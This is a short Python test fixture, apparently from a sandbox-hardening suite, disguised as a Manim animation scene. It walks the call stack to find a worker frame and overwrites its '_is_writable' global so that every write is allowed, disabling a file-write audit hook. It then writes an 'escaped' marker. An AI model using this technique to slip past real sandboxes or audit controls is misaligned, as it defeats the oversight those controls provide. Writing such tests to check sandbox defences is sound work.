# ruff: noqa
# class: hook-disable
# tries: walk the stack with frames (f_back) to the worker's frame and replace its `_is_writable`
#   global through f_globals, then write a marker.
from manim import *
import sys


class Escape(Scene):
    def construct(self):
        frame = sys._getframe()
        while frame is not None:
            if "make_audit_hook" in frame.f_globals:
                frame.f_globals["_is_writable"] = lambda path, roots: True
            frame = frame.f_back
        with open("__MARKER_DIR__/hook_frame_globals", "w") as handle:
            handle.write("escaped")
        self.play(FadeIn(Dot()), run_time=0.2)
